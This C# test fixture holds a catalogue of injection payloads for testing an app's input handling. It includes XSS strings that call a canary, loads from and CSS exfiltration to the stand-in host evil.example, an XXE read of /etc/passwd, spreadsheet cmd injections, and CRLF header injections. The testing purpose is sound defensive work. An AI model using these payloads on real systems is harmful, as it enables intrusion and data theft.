namespace CommitteeHub.Tests.Planted;

/// <summary>What somebody types who wants to be run and not read. Whatever of it runs calls <see cref="Canary"/>; whatever of it is loaded comes from evil.example.</summary>
public static class Payloads
{
    public const string Canary = "planted_ran";

    /// <summary>By class, one each line; HIT stands for the call of the canary.</summary>
    private static readonly Dictionary<string, string> ByClass = new()
    {
        ["tags"] = """
            <script>HIT</script>
            <SCRIPT SRC=//evil.example/a.js></SCRIPT>
            <script type=module>HIT</script>
            <script>/*<!--<script>*/HIT</script>
            <iframe srcdoc="<script>parent.HIT</script>"></iframe>
            <iframe src="javascript:parent.HIT"></iframe>
            <object data="data:text/html,<script>opener.HIT</script>"></object>
            <embed src="//evil.example/a.swf">
            <base href="//evil.example/">
            <meta http-equiv=refresh content="0;url=javascript:HIT">
            <link rel=stylesheet href="//evil.example/a.css">
            <link rel=import href="//evil.example/a.html">
            <form action="//evil.example/"><button>Save</button></form>
            <portal src="//evil.example/"></portal>
            <marquee onstart=HIT>words</marquee>
            """,
        ["attributes"] = """
            " autofocus onfocus=HIT x="
            ' autofocus onfocus=HIT x='
            ` onmouseover=HIT x=`
            "><img src=x onerror=HIT>
            '><img src=x onerror=HIT>
            "/><svg onload=HIT>
            " style="animation-name:x" onanimationstart=HIT x="
            "onpointerenter="HIT
            " accesskey=x onclick=HIT //
            " srcdoc="<script>parent.HIT</script>" x="
            " formaction="javascript:HIT" x="
            " popover id=planted onbeforetoggle=HIT x="
            """,
        ["handlers"] = """
            <img src=x onerror=HIT>
            <IMG ""><SCRIPT>HIT</SCRIPT>">
            <body onload=HIT>
            <input autofocus onfocus=HIT>
            <select autofocus onfocus=HIT></select>
            <details open ontoggle=HIT>words</details>
            <video><source onerror=HIT></video>
            <audio src=x onerror=HIT></audio>
            <video poster=x onloadstart=HIT src=x></video>
            <div onpointerover=HIT style="position:fixed;inset:0">words</div>
            <style onload=HIT></style>
            <img src=x onerror="window['planted'+'_ran']()">
            <img/src=x/onerror=HIT>
            <img src=x:x onerror&#61;HIT>
            <x-planted onclick=HIT>words</x-planted>
            <dialog open onclose=HIT><form method=dialog><button autofocus>ok</button></form></dialog>
            """,
        ["addresses"] = """
            javascript:HIT
            JaVaScRiPt:HIT
            javascript://example.org/%0aHIT
            java&#09;script:HIT
            &#106;avascript:HIT
            data:text/html,<script>HIT</script>
            data:text/html;base64,PHNjcmlwdD5wbGFudGVkX3JhbigpPC9zY3JpcHQ+
            vbscript:HIT
            https://evil.example/" onclick="HIT
            https://evil.example/'-HIT-'
            //evil.example/%0d%0aX-Planted:1
            blob:https://evil.example/HIT
            https://example.org@evil.example/<script>HIT</script>
            """,
        ["pictures and formulas"] = """
            <svg onload=HIT>
            <svg><script>HIT</script></svg>
            <svg><script xlink:href="//evil.example/a.js"/></svg>
            <svg><a xlink:href="javascript:HIT"><text y=20>words</text></a></svg>
            <svg><animate onbegin=HIT attributeName=x dur=1s></svg>
            <svg><set attributeName=onmouseover to=HIT></svg>
            <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>HIT</script></svg>#x"/></svg>
            <svg><foreignObject><body onload=HIT></foreignObject></svg>
            <svg><style><img src=x onerror=HIT></style></svg>
            <math><mtext><table><mglyph><style><img src=x onerror=HIT>
            <math href="javascript:HIT">words</math>
            <math><maction actiontype="statusline#HIT" xlink:href="javascript:HIT">words</maction></math>
            """,
        ["templates"] = """
            {{constructor.constructor('HIT')()}}
            {{HIT}}
            ${HIT}
            #{HIT}
            <%= HIT %>
            @(HIT)
            @{ HIT; }
            [[${HIT}]]
            {% HIT %}
            {0} {1} {2} {99999}
            """,
        ["encodings"] = """
            &lt;script&gt;HIT&lt;/script&gt;
            &#60;script&#62;HIT&#60;/script&#62;
            &#x3c;img src=x onerror=HIT&#x3e;
            %3Cscript%3EHIT%3C/script%3E
            \u003cscript\u003eHIT\u003c/script\u003e
            \x3cscript\x3eHIT\x3c/script\x3e
            +ADw-script+AD4-HIT+ADw-/script+AD4-
            &amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;
            ＜script＞HIT＜/script＞
            ‹script›HIT‹/script›
            <scr\u0000ipt>HIT</scr\u0000ipt>
            <img src=x onerror=&#112;lanted_ran()>
            """,
        ["broken markup"] = """
            <script>HIT
            <<script>HIT//<</script>
            <script/x>HIT</script/y>
            </p><script>HIT</script><p>
            <img src="x` `<script>HIT</script>"` `>
            <a href="x" <script>HIT</script>>words</a>
            <b <script>HIT</script>0
            <img src=x onerror=HIT 
            </title><script>HIT</script>
            </textarea><script>HIT</script>
            </style><script>HIT</script>
            </option></select><img src=x onerror=HIT>
            </template><img src=x onerror=HIT>
            </noscript><img src=x onerror=HIT>
            """,
        ["styles"] = """
            <style>@import '//evil.example/a.css';</style>
            <div style="background:url(//evil.example/a.png)">words</div>
            <div style="width:expression(HIT)">words</div>
            ;background:url(javascript:HIT)
            }body{background:url(//evil.example/b.png)}
            <style>input[value^=a]{background:url(//evil.example/a)}</style>
            """,
        ["directions and invisible signs"] = "\u202e<script>HIT</script>\u202c\n\u200b<img src=x onerror=HIT>\n<\u200bscript>HIT</script>\n\ufeff<svg onload=HIT>\n<img src=x onerror=HIT\u2028>\n\u2066<x-planted>\u2069 onclick=HIT",
        ["comments and sections"] = """
            --><script>HIT</script><!--
            <!--><img src=x onerror=HIT>-->
            <!--Blazor:{"type":"server","descriptor":"HIT"}-->
            <![CDATA[><script>HIT</script>]]>
            ]]><script>HIT</script>
            <?xml version="1.0"?><!DOCTYPE x [<!ENTITY p SYSTEM "file:///etc/passwd">]><x>&p;</x>
            <!doctype html><img src=x onerror=HIT>
            <!--[if gte IE 4]><script>HIT</script><![endif]-->
            """,
        ["out of JSON and scripts"] = """
            "};HIT;//
            '};HIT;//
            \";HIT;//
            </script><script>HIT</script>
            "}]}</script><script>HIT</script>
            {"__proto__":{"planted":"HIT"}}
            '-HIT-'
            `${HIT}`
            """,
        ["mutations"] = """
            <noscript><p title="</noscript><img src=x onerror=HIT>">
            <svg></p><style><a id="</style><img src=x onerror=HIT>">
            <math><mi><table><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=HIT>">
            <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=HIT>">
            <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=HIT>">
            <p id="`"><img src=x onerror=HIT>`">
            """,
        ["marked words"] = """
            [words](javascript:HIT)
            [words](JAVASCRIPT&colon;HIT)
            [words](data:text/html,<script>HIT</script>)
            ![words](javascript:HIT)
            ![words](//evil.example/a.png"onerror="HIT)
            <javascript:HIT>
            [words]: javascript:HIT
            [words](https://evil.example/" onmouseover="HIT)
            # <img src=x onerror=HIT>
            > <script>HIT</script>
            ```html <script>HIT</script> ```
            * https://evil.example/"><img src=x onerror=HIT>
            | a | <img src=x onerror=HIT> |
            """,
        ["heads and lines"] = """
            wordsCRLFX-Planted: 1
            wordsCRLFCRLF<script>HIT</script>
            words%0d%0aSet-Cookie: planted=1
            wordsCRLFBcc: planted@evil.example
            wordsCRLFEND:VEVENTCRLFBEGIN:VEVENTCRLFX-PLANTED:1
            """,
        ["sheets"] = """
            =HYPERLINK("https://evil.example/","words")
            =cmd|' /C calc'!A0
            +1+cmd|' /C calc'!A0
            -2+3+cmd|' /C calc'!A0
            @SUM(1+1)*cmd|' /C calc'!A0
            =IMPORTXML("https://evil.example/","//a")
            """,
        ["end without an end"] = """
            <textarea>
            <title>
            <xmp>
            <!--
            <plaintext>
            """,
    };

    /// <summary>All of them; those that would swallow what comes after them are the last.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. ByClass.Values.SelectMany(Lines),
    ];

    /// <summary>What would be followed if it were made a link.</summary>
    public static IEnumerable<string> Addresses => Lines(ByClass["addresses"]).Where(a => !a.StartsWith("https:", StringComparison.Ordinal));

    public static int Classes => ByClass.Count;

    private static IEnumerable<string> Lines(string written) =>
        written.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => line.Replace("HIT", $"{Canary}()", StringComparison.Ordinal).Replace("CRLF", "\r\n", StringComparison.Ordinal));
}
